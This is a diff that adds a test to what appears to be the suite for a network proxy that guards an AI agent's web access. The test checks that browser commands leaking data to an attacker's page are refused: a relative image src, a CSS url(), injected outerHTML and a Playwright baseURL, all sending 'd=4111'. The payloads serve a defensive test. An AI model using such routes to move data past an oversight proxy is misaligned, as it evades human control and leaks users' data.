@@ -254,6 +254,49 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   t.notOk(web.hits.some((h) => h.host === 'evil.test'), 'evil.test was never reached');
 });
 
+// A remote browser on the page a served link reached (twenty-second pass): the page's host is the
+// attacker's, which browsing takes by that exact link only. A URL relative to the page (an image's
+// `src`, a style's `url()`) and a Playwright context whose base URL is that link (every relative
+// `goto` after it lands on its host) carried data to it, though `fetch('/c?d=' + d)` was refused.
+// ws.test stands for the browser's WebSocket (a human approves each upgrade: its protocol is
+// unseen); what it receives is what the browser would have been told.
+t.test('twenty-second pass: a remote browser is given no URL relative to a served link\'s page, nor the link as a base URL', async (t) => {
+  const web = await startWeb(t);
+  const home = tempDir(t, 'al-att-');
+  const airlock = await startSessionAirlock(t, home, policyCopy(t), web);
+  const agent = await airlock.agents.add('bot');
+  const port = airlock.proxyAddress.port;
+  const api = await studioApi(airlock, home);
+  t.equal((await viaCurl(airlock.proxyUrl('bot', agent.token), 'GET', `${web.origin('news.test')}/today`)).status, 200); // serves http://blog.test:PORT/post?id=4
+  const served = `http://blog.test:${web.port}/post?id=4`;
+  const browser = async (msgs: string[]): Promise<number> => {
+    const ws = new WebSocket(`ws://ws.test:${web.port}/devtools/browser/1`, { agent: new HttpProxyAgent(`http://bot:${agent.token}@127.0.0.1:${port}`) });
+    const opened = new Promise<void>((resolve, reject) => { ws.once('open', () => resolve()); ws.once('error', reject); });
+    const [held] = (await eventuallyPending(api)) as Array<{ id: string }>;
+    await api('POST', `/api/approvals/${held!.id}/approve`, { accept_unseen_body: true });
+    await opened;
+    return new Promise<number>((resolve) => {
+      let replies = 0;
+      ws.on('message', () => { if (++replies === msgs.length) ws.close(1000); });
+      ws.on('close', (code) => resolve(code));
+      for (const m of msgs) ws.send(m);
+      setTimeout(() => ws.terminate(), 10_000).unref();
+    });
+  };
+  const cdp = (method: string, params: unknown, id = 1): string => JSON.stringify({ id, method, params });
+  const pw = (guid: string, method: string, params: unknown): string => JSON.stringify({ id: 3, guid, method, params });
+  // Control: the served link itself, an image of it written out, a fragment.
+  t.equal(await browser([cdp('Page.navigate', { url: served }), cdp('DOM.setAttributeValue', { nodeId: 7, name: 'href', value: '#comments' }, 2)]), 1000, 'the served link is browsed');
+  for (const msg of [
+    cdp('DOM.setAttributeValue', { nodeId: 7, name: 'src', value: '/c?d=4111' }),
+    cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<img src="c?d=4111">' }),
+    cdp('DOM.setAttributeValue', { nodeId: 7, name: 'style', value: 'background: url(/c?d=4111)' }),
+    pw('browser@11', 'newContext', { baseURL: served }),
+  ]) t.equal(await browser([msg]), 1008, msg.slice(0, 90));
+  t.notOk(web.hits.some((h) => h.host === 'ws.test' && /d=4111|baseURL/.test(h.body)), 'the browser was told none of them');
+  t.ok(web.hits.some((h) => h.host === 'ws.test' && h.body.includes('Page.navigate')), 'it was told the served link');
+});
+
 t.test('labels cannot be laundered', async (t) => {
   const web = await startWeb(t);
   const home = tempDir(t, 'al-att-');
